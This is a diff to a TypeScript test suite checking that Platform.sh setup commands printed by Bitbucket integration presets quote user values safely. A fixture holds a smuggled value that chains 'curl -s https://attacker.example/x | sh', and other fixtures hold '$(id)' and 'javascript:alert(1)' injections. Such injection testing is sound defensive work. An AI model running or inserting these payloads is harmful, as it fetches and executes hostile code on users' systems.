@@ -24,12 +24,14 @@ const WIRED_RUNS = Math.max(1, Math.round(RUNS / 10));
 const PSH = ["account", "email", "repository:write", "pullrequest", "webhook"];
 /** The value of the issue: it validated, and came out as a second command whose `#` ate the credentials. */
 const HOSTILE_PROJECT = "abcdefgh1234 --fetch-branches=true; curl -s https://attacker.example/x | sh #";
-const BRANCH_FLAGS = [
-  "--fetch-branches=true",
-  "--prune-branches=true",
-  "--build-pull-requests=true",
-  "--build-pull-requests-post-merge=false",
-];
+/** The branch options and their `integration:update` flags, in the order the command gives them. */
+const BRANCH_OPTIONS = [
+  ["fetchBranches", "fetch-branches"],
+  ["pruneBranches", "prune-branches"],
+  ["buildPullRequests", "build-pull-requests"],
+  ["buildPullRequestsPostMerge", "build-pull-requests-post-merge"],
+] as const;
+type Branches = Partial<Record<(typeof BRANCH_OPTIONS)[number][0], boolean>>;
 
 const value = <T>(o: pulumi.Output<T> | undefined) => (o as unknown as { promise(): Promise<T> }).promise();
 
@@ -91,23 +93,25 @@ async function mocked(
 }
 
 /** What a preset may be handed: a formatted option only if the preset accepts it. */
-const valid = (preset: "cloud" | "datacenter", options: Record<string, string>) =>
+const valid = (preset: "cloud" | "datacenter", options: Record<string, string | boolean>) =>
   presetFor("platformsh", preset)!.validate(options).length === 0;
 
-const cloudIntegration = (v: { project: string; workspace: string; repository: string }) => () =>
-  new Integration("psh", {
-    preset: "platformsh",
-    workspace: v.workspace,
-    repositories: [v.repository],
-    consumer: new OAuthConsumer("c", {
-      workspace: "acme",
-      name: "Platform.sh",
-      scopes: PSH,
-      key: "k",
-      secret: "s",
-    }),
-    options: { project: v.project },
-  });
+const cloudIntegration =
+  (v: { project: string; workspace: string; repository: string; branches?: Branches }) => () =>
+    new Integration("psh", {
+      preset: "platformsh",
+      workspace: v.workspace,
+      repositories: [v.repository],
+      consumer: new OAuthConsumer("c", {
+        workspace: "acme",
+        name: "Platform.sh",
+        callbackUrl: "http://localhost",
+        scopes: PSH,
+        key: "k",
+        secret: "s",
+      }),
+      options: { project: v.project, ...v.branches },
+    });
 
 const dcIntegration =
   (v: { project: string; username: string; url: string; projectKey: string; repository: string }) => () =>
@@ -157,6 +161,7 @@ describe("issue 19.4: the command a preset prints is data, not code", () => {
           "oauthConsumers:",
           "  - id: psh",
           "    name: Platform.sh",
+          "    callbackUrl: http://localhost",
           "    scopes: [account, email, repository:write, pullrequest, webhook]",
           "    key: { fromConfig: k }",
           "    secret: { fromConfig: s }",
@@ -172,7 +177,7 @@ describe("issue 19.4: the command a preset prints is data, not code", () => {
       );
       assert.equal(r.code, 1);
       assert.deepEqual(r.lines, [
-        "bitbucket.yaml:15:16 integrations[0].options.project: Platform.sh: project: must be a Platform.sh project id: lowercase letters and digits, as `platform project:list` prints it (e.g. abcdefgh1234567)",
+        "bitbucket.yaml:16:16 integrations[0].options.project: Platform.sh: project: must be a Platform.sh project id: lowercase letters and digits, as `platform project:list` prints it (e.g. abcdefgh1234567)",
       ]);
     });
 
@@ -192,12 +197,9 @@ describe("issue 19.4: the command a preset prints is data, not code", () => {
           "      url: https://bitbucket.example.com/$(id)",
           "  - id: puppet",
           "    preset: puppet-pipelines",
-          "    repositories: [api]",
           "    options:",
           "      username: 'ci bot'",
           "      url: javascript:alert(1)",
-          "      sshPublicKey: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIihzfTZjBGidcZAPW8/r4bH2csyjxXyZ0YIpH2dxn+e p@p",
-          "      webhookUrl: https://pipelines.example.com/hook",
           "",
         ].join("\n"),
       );
@@ -210,8 +212,8 @@ describe("issue 19.4: the command a preset prints is data, not code", () => {
         "bitbucket.yaml:9:16 integrations[0].options.project: Platform.sh (Bitbucket Server): project: must be a Platform.sh project id: lowercase letters and digits, as `platform project:list` prints it (e.g. abcdefgh1234567)",
         `bitbucket.yaml:10:17 integrations[0].options.username: Platform.sh (Bitbucket Server): username: ${USER_RULE}`,
         `bitbucket.yaml:11:12 integrations[0].options.url: Platform.sh (Bitbucket Server): url: ${URL_RULE}`,
-        `bitbucket.yaml:16:17 integrations[1].options.username: Puppet Pipelines (Bitbucket Server): username: ${USER_RULE}`,
-        `bitbucket.yaml:17:12 integrations[1].options.url: Puppet Pipelines (Bitbucket Server): url: ${URL_RULE}`,
+        `bitbucket.yaml:15:17 integrations[1].options.username: Puppet Pipelines (Bitbucket Server): username: ${USER_RULE}`,
+        `bitbucket.yaml:16:12 integrations[1].options.url: Puppet Pipelines (Bitbucket Server): url: ${URL_RULE}`,
       ]);
     });
 
@@ -298,7 +300,7 @@ describe("issue 19.4: the command a preset prints is data, not code", () => {
             fc.pre(valid("datacenter", v) && valid("cloud", { project: v.project }));
             const flags: Array<[string, string]> = [
               ["project", v.project],
-              ["url", v.url],
+              ["base-url", v.url],
               ["username", v.username],
               ["token", "dG9rZW4+Lz0="],
             ];
@@ -316,7 +318,7 @@ describe("issue 19.4: the command a preset prints is data, not code", () => {
       );
     });
 
-    it("Cloud: prints every project that validates and any workspace, repository, key and secret as one word each, in the command and its template", async () => {
+    it("Cloud: prints every project that validates and any workspace, repository, key, secret and branch options as one word each, in the command, its template and the update and validate commands", async () => {
       await fc.assert(
         fc.asyncProperty(
           fc.record({
@@ -325,31 +327,56 @@ describe("issue 19.4: the command a preset prints is data, not code", () => {
             repository: nasty,
             key: nasty,
             secret: nasty,
+            branches: fc.record(
+              {
+                fetchBranches: fc.boolean(),
+                pruneBranches: fc.boolean(),
+                buildPullRequests: fc.boolean(),
+                buildPullRequestsPostMerge: fc.boolean(),
+              },
+              { requiredKeys: [] },
+            ),
+            integrationId: nasty,
           }),
           async (v) => {
-            fc.pre(valid("cloud", { project: v.project }));
+            fc.pre(valid("cloud", { project: v.project, ...v.branches }));
             const i = await mocked({ consumer: { key: v.key, secret: v.secret } }, cloudIntegration(v));
             const intended = [
               "platform",
               "integration:add",
-              `--project=${v.project}`,
               "--type=bitbucket",
-              `--repository=${v.workspace}/${v.repository}`,
+              `--project=${v.project}`,
               `--key=${v.key}`,
               `--secret=${v.secret}`,
-              ...BRANCH_FLAGS,
+              `--repository=${v.workspace}/${v.repository}`,
             ];
+            const command = await value(i.outputs.platformCommand as pulumi.Output<string>);
+            const template = await value(i.outputs.platformCommandTemplate as pulumi.Output<string>);
+            assert.ok(
+              command.startsWith(" platform ") && template.startsWith(" platform "),
+              "the guide's leading space",
+            );
+            assert.deepEqual(argvBySh(command), intended);
             assert.deepEqual(
-              argvBySh(await value(i.outputs.platformCommand as pulumi.Output<string>)),
+              argvBySh(template, { BITBUCKET_KEY: v.key, BITBUCKET_SECRET: v.secret }),
               intended,
             );
-            assert.deepEqual(
-              argvBySh(await value(i.outputs.platformCommandTemplate as pulumi.Output<string>), {
-                BITBUCKET_KEY: v.key,
-                BITBUCKET_SECRET: v.secret,
-              }),
-              intended,
-            );
+            const given = BRANCH_OPTIONS.filter(([k]) => v.branches[k] !== undefined);
+            const update = i.outputs.updateCommand as pulumi.Output<string> | undefined;
+            if (given.length === 0) assert.equal(update, undefined, "no branch option: no update command");
+            else
+              assert.deepEqual(argvBySh(await value(update), { INTEGRATION_ID: v.integrationId }), [
+                "platform",
+                "integration:update",
+                v.integrationId,
+                `--project=${v.project}`,
+                ...given.map(([k, flag]) => `--${flag}=${String(v.branches[k])}`),
+              ]);
+            assert.deepEqual(argvBySh(await value(i.outputs.validateCommand as pulumi.Output<string>)), [
+              "platform",
+              "integration:validate",
+              `--project=${v.project}`,
+            ]);
           },
         ),
         { seed: SEED, numRuns: WIRED_RUNS },
@@ -373,24 +400,21 @@ describe("issue 19.4: the command a preset prints is data, not code", () => {
             const intended = [
               "platform",
               "integration:add",
-              `--project=${v.project}`,
               "--type=bitbucket_server",
-              `--url=${v.url.replace(/\/+$/, "")}`,
+              `--project=${v.project}`,
+              `--base-url=${v.url.replace(/\/+$/, "")}`,
               `--username=${v.username}`,
-              `--repository=${v.projectKey}/${v.repository}`,
               `--token=${v.token}`,
-              ...BRANCH_FLAGS,
+              `--repository=${v.projectKey}/${v.repository}`,
             ];
-            assert.deepEqual(
-              argvBySh(await value(i.outputs.platformCommand as pulumi.Output<string>)),
-              intended,
+            const command = await value(i.outputs.platformCommand as pulumi.Output<string>);
+            const template = await value(i.outputs.platformCommandTemplate as pulumi.Output<string>);
+            assert.ok(
+              command.startsWith(" platform ") && template.startsWith(" platform "),
+              "the guide's leading space",
             );
-            assert.deepEqual(
-              argvBySh(await value(i.outputs.platformCommandTemplate as pulumi.Output<string>), {
-                BITBUCKET_TOKEN: v.token,
-              }),
-              intended,
-            );
+            assert.deepEqual(argvBySh(command), intended);
+            assert.deepEqual(argvBySh(template, { BITBUCKET_TOKEN: v.token }), intended);
           },
         ),
         { seed: SEED, numRuns: WIRED_RUNS },
